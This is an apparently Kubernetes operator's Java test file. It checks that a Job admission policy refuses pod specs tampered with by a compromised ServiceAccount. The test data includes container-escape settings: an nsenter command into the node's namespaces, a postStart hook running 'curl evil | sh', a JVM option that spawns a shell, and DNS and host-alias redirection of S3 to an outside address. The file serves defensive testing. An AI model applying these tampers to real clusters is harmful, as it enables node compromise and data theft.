package dev.frameflow.deploy;

import static dev.frameflow.deploy.ExtractionJobAdmissionTest.container;
import static dev.frameflow.deploy.JobAdmissionConformanceTest.tamper;
import static org.assertj.core.api.Assertions.assertThat;

import dev.frameflow.deploy.ExtractionJobAdmissionTest.Deployed;
import dev.frameflow.deploy.JobAdmissionConformanceTest.Shape;
import dev.frameflow.deploy.JobAdmissionConformanceTest.Tamper;
import io.fabric8.kubernetes.api.model.AppArmorProfile;
import io.fabric8.kubernetes.api.model.ContainerPortBuilder;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.HostAlias;
import io.fabric8.kubernetes.api.model.LifecycleBuilder;
import io.fabric8.kubernetes.api.model.LocalObjectReference;
import io.fabric8.kubernetes.api.model.PodDNSConfigBuilder;
import io.fabric8.kubernetes.api.model.PodSecurityContext;
import io.fabric8.kubernetes.api.model.ProbeBuilder;
import io.fabric8.kubernetes.api.model.SELinuxOptions;
import io.fabric8.kubernetes.api.model.Sysctl;
import io.fabric8.kubernetes.api.model.Toleration;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The Job admission policy pins the whole pod the operator builds (issue 27, item 10), not only its
 * privileges: what the container runs (the image's entrypoint with the extractor's own arguments),
 * its environment, where the pod lands, what it shares with the node. Each Job shape the operator
 * builds, as built and as the API server sees it after filling in its defaults, is admitted; a copy
 * changed in one of these ways is refused by the guard for it, and by no other.
 */
class ExtractionPodShapeTest {

  private static final List<Deployed> DEPLOYMENTS =
      ExtractionJobAdmissionTest.deployments().toList();

  static final String COMMAND = "run the image's entrypoint with the extractor's arguments";
  static final String ALONE = "run the extractor alone";
  static final String KERNEL = "keep a read-only root filesystem and the default kernel view";
  static final String PLACEMENT = "placed by the default scheduler alone";
  static final String SHARING = "share and override nothing";
  static final String ENVIRONMENT = "get only the operator's variables";
  static final String JOB = "an extraction Job has an activeDeadlineSeconds";

  /**
   * A compromised operator ServiceAccount with the allowed image: each way to run something else,
   * somewhere else, or with more of the node.
   */
  static Stream<Tamper> tampers() {
    return Stream.of(
        tamper(
            "a command: nsenter into the node's namespaces",
            pod ->
                container(pod)
                    .setCommand(List.of("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh")),
            COMMAND),
        tamper(
            "a shell as the first argument",
            pod -> container(pod).setArgs(List.of("sh", "-c", "id")),
            COMMAND),
        tamper(
            "another subcommand (assemble, for runs by hand)",
            pod -> container(pod).getArgs().set(0, "assemble"),
            COMMAND),
        tamper(
            "the work directory moved to /", pod -> container(pod).getArgs().set(8, "/"), COMMAND),
        tamper(
            "an extra argument",
            pod -> {
              List<String> args = new ArrayList<>(container(pod).getArgs());
              args.add("--verbose");
              container(pod).setArgs(args);
            },
            COMMAND),
        tamper("a workingDir", pod -> container(pod).setWorkingDir("/"), COMMAND),
        tamper(
            "a postStart exec hook",
            pod ->
                container(pod)
                    .setLifecycle(
                        new LifecycleBuilder()
                            .withNewPostStart()
                            .withNewExec()
                            .withCommand("sh", "-c", "curl evil | sh")
                            .endExec()
                            .endPostStart()
                            .build()),
            ALONE),
        tamper(
            "an exec liveness probe",
            pod ->
                container(pod)
                    .setLivenessProbe(
                        new ProbeBuilder().withNewExec().withCommand("sh").endExec().build()),
            ALONE),
        tamper(
            "a host port",
            pod ->
                container(pod)
                    .setPorts(
                        List.of(
                            new ContainerPortBuilder()
                                .withContainerPort(22)
                                .withHostPort(22)
                                .build())),
            ALONE),
        tamper("a TTY", pod -> container(pod).setTty(true), ALONE),
        tamper(
            "no memory limit",
            pod -> container(pod).getResources().getLimits().remove("memory"),
            ALONE),
        tamper(
            "a mount propagated back to the host",
            pod -> container(pod).getVolumeMounts().get(0).setMountPropagation("Bidirectional"),
            ALONE),
        tamper("a sidecar restart policy", pod -> container(pod).setRestartPolicy("Always"), ALONE),
        tamper(
            "a writable root filesystem",
            pod -> container(pod).getSecurityContext().setReadOnlyRootFilesystem(false),
            KERNEL),
        tamper(
            "an unmasked /proc",
            pod -> container(pod).getSecurityContext().setProcMount("Unmasked"),
            KERNEL),
        tamper(
            "SELinux type spc_t (unconfined)",
            pod ->
                container(pod)
                    .getSecurityContext()
                    .setSeLinuxOptions(new SELinuxOptions(null, null, "spc_t", null)),
            KERNEL),
        tamper(
            "AppArmor Unconfined",
            pod ->
                container(pod)
                    .getSecurityContext()
                    .setAppArmorProfile(new AppArmorProfile(null, "Unconfined")),
            KERNEL),
        tamper("group 0", pod -> container(pod).getSecurityContext().setRunAsGroup(0L), KERNEL),
        tamper(
            "a supplementary group 0",
            pod -> podSecurity(pod).setSupplementalGroups(List.of(0L)),
            KERNEL),
        tamper(
            "a sysctl",
            pod -> podSecurity(pod).setSysctls(List.of(new Sysctl("kernel.shm_rmid_forced", "0"))),
            KERNEL),
        tamper("a nodeName", pod -> pod.setNodeName("ip-10-0-1-17.eu-west-1"), PLACEMENT),
        tamper(
            "a nodeSelector",
            pod -> pod.setNodeSelector(Map.of("node-role.kubernetes.io/control-plane", "")),
            PLACEMENT),
        tamper(
            "a toleration of every taint",
            pod -> pod.setTolerations(List.of(new Toleration(null, null, "Exists", null, null))),
            PLACEMENT),
        tamper(
            "a node affinity",
            pod ->
                pod.setAffinity(
                    new io.fabric8.kubernetes.api.model.AffinityBuilder()
                        .withNewNodeAffinity()
                        .withNewRequiredDuringSchedulingIgnoredDuringExecution()
                        .addNewNodeSelectorTerm()
                        .addNewMatchExpression()
                        .withKey("kubernetes.io/hostname")
                        .withOperator("In")
                        .withValues("ip-10-0-1-17")
                        .endMatchExpression()
                        .endNodeSelectorTerm()
                        .endRequiredDuringSchedulingIgnoredDuringExecution()
                        .endNodeAffinity()
                        .build()),
            PLACEMENT),
        tamper(
            "a system priority class",
            pod -> pod.setPriorityClassName("system-node-critical"),
            PLACEMENT),
        tamper("a runtime class", pod -> pod.setRuntimeClassName("runc-privileged"), PLACEMENT),
        tamper("another scheduler", pod -> pod.setSchedulerName("my-scheduler"), PLACEMENT),
        tamper("a shared process namespace", pod -> pod.setShareProcessNamespace(true), SHARING),
        tamper(
            "a host alias for S3",
            pod ->
                pod.setHostAliases(List.of(new HostAlias(List.of("s3.amazonaws.com"), "6.6.6.6"))),
            SHARING),
        tamper(
            "another name server",
            pod -> pod.setDnsConfig(new PodDNSConfigBuilder().withNameservers("6.6.6.6").build()),
            SHARING),
        tamper("DNS policy Default (the node's)", pod -> pod.setDnsPolicy("Default"), SHARING),
        tamper(
            "an image pull Secret",
            pod -> pod.setImagePullSecrets(List.of(new LocalObjectReference("regcred"))),
            SHARING),
        tamper("restartPolicy OnFailure", pod -> pod.setRestartPolicy("OnFailure"), SHARING),
        tamper("service links", pod -> pod.setEnableServiceLinks(true), SHARING),
        tamper(
            "the deprecated serviceAccount naming another",
            pod -> pod.setServiceAccount("frameflow-operator"),
            SHARING),
        tamper(
            "JAVA_TOOL_OPTIONS",
            pod ->
                container(pod)
                    .getEnv()
                    .add(
                        new EnvVar(
                            "JAVA_TOOL_OPTIONS", "-XX:OnOutOfMemoryError=/bin/sh -c id", null)),
            ENVIRONMENT),
        tamper(
            "an operator variable from a ConfigMap",
            pod ->
                container(pod)
                    .getEnv()
                    .add(
                        new io.fabric8.kubernetes.api.model.EnvVarBuilder()
                            .withName("FRAMEFLOW_LOG_JSON")
                            .withNewValueFrom()
                            .withNewConfigMapKeyRef("x", "frameflow-operator", false)
                            .endValueFrom()
                            .build()),
            ENVIRONMENT),
        tamper(
            "a ConfigMap as envFrom",
            pod ->
                container(pod)
                    .setEnvFrom(
                        List.of(
                            new io.fabric8.kubernetes.api.model.EnvFromSourceBuilder()
                                .withNewConfigMapRef("frameflow-operator", false)
                                .build())),
            ENVIRONMENT));
  }

  static Stream<Arguments> tamperedShapes() {
    return Stream.of(Shape.values()).flatMap(s -> tampers().map(t -> Arguments.of(s, t)));
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("tamperedShapes")
  void aPodChangedInShapeIsRefusedByTheGuardItBreaks(Shape shape, Tamper tamper) {
    SoftAssertions softly = new SoftAssertions();
    DEPLOYMENTS.forEach(
        deployed -> {
          Job job = Serialization.clone(shape.build(deployed.operatorConfig()));
          tamper.change().accept(deployed, job.getSpec().getTemplate().getSpec());

          softly
              .assertThat(deployed.denials(job))
              .as("%s: %s Job with %s", deployed, shape, tamper)
              .hasSize(1)
              .allSatisfy(denial -> assertThat(denial).contains(tamper.message()));
        });
    softly.assertAll();
  }

  static Stream<Arguments> jobChanges() {
    return Stream.of(
        Arguments.of(
            "no deadline", (Consumer<Job>) job -> job.getSpec().setActiveDeadlineSeconds(null)),
        Arguments.of(
            "a manual selector", (Consumer<Job>) job -> job.getSpec().setManualSelector(true)),
        Arguments.of(
            "the legacy AppArmor annotation, unconfined",
            (Consumer<Job>)
                job ->
                    job.getSpec()
                        .getTemplate()
                        .getMetadata()
                        .setAnnotations(
                            Map.of(
                                "container.apparmor.security.beta.kubernetes.io/extractor",
                                "unconfined"))));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("jobChanges")
  void aJobUnboundedInTimeOrAdoptingOtherPodsIsRefused(String what, Consumer<Job> change) {
    SoftAssertions softly = new SoftAssertions();
    for (Shape shape : Shape.values()) {
      DEPLOYMENTS.forEach(
          deployed -> {
            Job job = Serialization.clone(shape.build(deployed.operatorConfig()));
            change.accept(job);
            softly
                .assertThat(deployed.denials(job))
                .as("%s: %s Job with %s", deployed, shape, what)
                .singleElement()
                .asString()
                .contains(JOB);
          });
    }
    softly.assertAll();
  }

  /**
   * The API server fills in defaults before validating admission policies run: a policy that
   * refused those would refuse every Job the operator makes, and only on a real cluster.
   */
  @ParameterizedTest(name = "{0}")
  @EnumSource(Shape.class)
  void eachShapeIsAdmittedWithTheApiServersDefaultsFilledIn(Shape shape) {
    SoftAssertions softly = new SoftAssertions();
    DEPLOYMENTS.forEach(
        deployed -> {
          Job job = ApiServerDefaults.applyTo(shape.build(deployed.operatorConfig()));
          softly
              .assertThat(deployed.denials(job))
              .as("%s: %s Job as the API server stores it", deployed, shape)
              .isEmpty();
        });
    softly.assertAll();
  }

  private static PodSecurityContext podSecurity(io.fabric8.kubernetes.api.model.PodSpec pod) {
    return pod.getSecurityContext();
  }

  /**
   * What the API server sets on a batch/v1 Job before validating admission (the defaulting of
   * k8s.io/kubernetes pkg/apis/core/v1 and batch/v1, and the Job strategy's selector and labels),
   * for the fields the operator leaves unset.
   */
  static final class ApiServerDefaults {

    private ApiServerDefaults() {}

    static Job applyTo(Job built) {
      Job job = Serialization.clone(built);
      var spec = job.getSpec();
      boolean indexed = "Indexed".equals(spec.getCompletionMode());
      if (spec.getCompletionMode() == null) {
        spec.setCompletionMode("NonIndexed");
      }
      if (spec.getCompletions() == null) {
        spec.setCompletions(1);
      }
      if (spec.getParallelism() == null) {
        spec.setParallelism(1);
      }
      if (spec.getBackoffLimit() == null) {
        spec.setBackoffLimit(indexed && spec.getBackoffLimitPerIndex() != null ? 2147483647 : 6);
      }
      if (spec.getSuspend() == null) {
        spec.setSuspend(false);
      }
      if (spec.getPodReplacementPolicy() == null) {
        spec.setPodReplacementPolicy(
            spec.getPodFailurePolicy() != null ? "Failed" : "TerminatingOrFailed");
      }
      String uid = "0b6f7a3e-2f4c-4c1d-9a8e-5d2c1b0a9f8e";
      Map<String, String> labels = new HashMap<>(spec.getTemplate().getMetadata().getLabels());
      labels.put("batch.kubernetes.io/controller-uid", uid);
      labels.put("batch.kubernetes.io/job-name", job.getMetadata().getName());
      labels.put("controller-uid", uid);
      labels.put("job-name", job.getMetadata().getName());
      spec.getTemplate().getMetadata().setLabels(labels);
      spec.setSelector(
          new io.fabric8.kubernetes.api.model.LabelSelectorBuilder()
              .addToMatchLabels("batch.kubernetes.io/controller-uid", uid)
              .build());
      var pod = spec.getTemplate().getSpec();
      if (pod.getDnsPolicy() == null) {
        pod.setDnsPolicy("ClusterFirst");
      }
      if (pod.getSchedulerName() == null) {
        pod.setSchedulerName("default-scheduler");
      }
      if (pod.getTerminationGracePeriodSeconds() == null) {
        pod.setTerminationGracePeriodSeconds(30L);
      }
      if (pod.getSecurityContext() == null) {
        pod.setSecurityContext(new PodSecurityContext());
      }
      if (pod.getEnableServiceLinks() == null) {
        pod.setEnableServiceLinks(true);
      }
      // the v1 conversion writes the deprecated alias beside the name
      pod.setServiceAccount(pod.getServiceAccountName());
      pod.getContainers()
          .forEach(
              c -> {
                if (c.getTerminationMessagePath() == null) {
                  c.setTerminationMessagePath("/dev/termination-log");
                }
                if (c.getTerminationMessagePolicy() == null) {
                  c.setTerminationMessagePolicy("File");
                }
                if (c.getImagePullPolicy() == null) {
                  c.setImagePullPolicy(
                      c.getImage().endsWith(":latest") ? "Always" : "IfNotPresent");
                }
              });
      pod.getVolumes().stream()
          .filter(v -> v.getProjected() != null)
          .forEach(
              v -> {
                if (v.getProjected().getDefaultMode() == null) {
                  v.getProjected().setDefaultMode(0644);
                }
                v.getProjected().getSources().stream()
                    .filter(s -> s.getServiceAccountToken() != null)
                    .filter(s -> s.getServiceAccountToken().getExpirationSeconds() == null)
                    .forEach(s -> s.getServiceAccountToken().setExpirationSeconds(3600L));
              });
      return job;
    }
  }
}
